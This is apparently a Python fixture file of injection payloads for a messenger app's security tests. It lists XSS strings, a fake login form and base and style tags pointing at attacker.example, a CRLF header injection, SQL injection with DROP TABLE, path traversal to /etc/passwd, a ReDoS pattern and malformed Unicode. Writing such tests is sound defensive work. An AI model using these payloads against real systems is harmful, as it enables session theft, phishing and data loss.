"""Strings that do harm where a page, a query or a header takes them for more than words.

Called by: the attacks beside it. Each script among them would set `window.stolen`, which a browser's test looks for.
"""

from typing import Final

SCRIPTS: Final = {
    "a script": "<script>window.stolen=1;alert(1)</script>",
    "the end of a script": "</script><script>window.stolen=1;alert(1)</script>",
    "an image that fails": "<img src=x onerror='window.stolen=1;alert(1)'>",
    "the end of an attribute": "\" autofocus onfocus='window.stolen=1;alert(1)' x=\"",
    "the end of a quoted attribute": "' onmouseover=window.stolen=1 tabindex=1 autofocus onfocus=alert(1) '",
    "a drawing": "<svg/onload=window.stolen=1>",
    "the end of a title": "</title></style></textarea></noscript><svg onload=window.stolen=1>",
    "a frame": "<iframe srcdoc='<script>parent.stolen=1</script>'></iframe>",
    "a comment": "--><!--><script>window.stolen=1</script><!--",
    "a form of its own": "<form action=https://attacker.example><button>Войти</button></form>",
    "a base": "<base href=https://attacker.example/>",
    "a style": "<style>*{background:url(https://attacker.example/)}</style>",
    "a link that runs": "javascript:window.stolen=1//https://example.org/",
    "a link of data": "data:text/html,<script>opener.stolen=1</script>",
    "a link with a quote": 'https://example.org/"onmouseover="window.stolen=1',
    "braces of templates": "{{7*7}}{% debug %}${7*7}#{7*7}<%= 7*7 %>",
    "a place for a name": "%s %(name)s {0.__class__} %n %00",
}
RIDDLES: Final = {
    "a turn of the text": "\u202eексат ен отЭ\u202c Это",
    "turns without an end": "\u2066\u2067\u202d\u202e" * 20,
    "nothing that is seen": "\u200b\u200c\u200d\u2060\ufeff\u3164\u115f",
    "a tower of marks": "Z" + "\u0300\u0301\u0489\u036f" * 100,
    "separators of lines": "a\u2028b\u2029c\x85d\x0be",
    "a NUL": "a\x00b",
    "signs of control": "".join(map(chr, range(1, 32))) + "\x7f\x9f",
    "half of a pair": "a\ud800b\udfff",
    "not a letter": "\ufffe\uffff\U0001ffff",
    "many words in one": "ﷺ" * 100,
    "a header": "a\r\nSet-Cookie: stolen=1\r\n\r\n<script>window.stolen=1</script>",
    "a query": "'; DROP TABLE messenger_message; -- \\' %' OR 1=1",
    "a pattern": "((((a+)+)+)+)$" + "a" * 60 + "%_\\",
    "a path": "../../../etc/passwd\\..\\..\\",
}
ALL: Final = SCRIPTS | RIDDLES
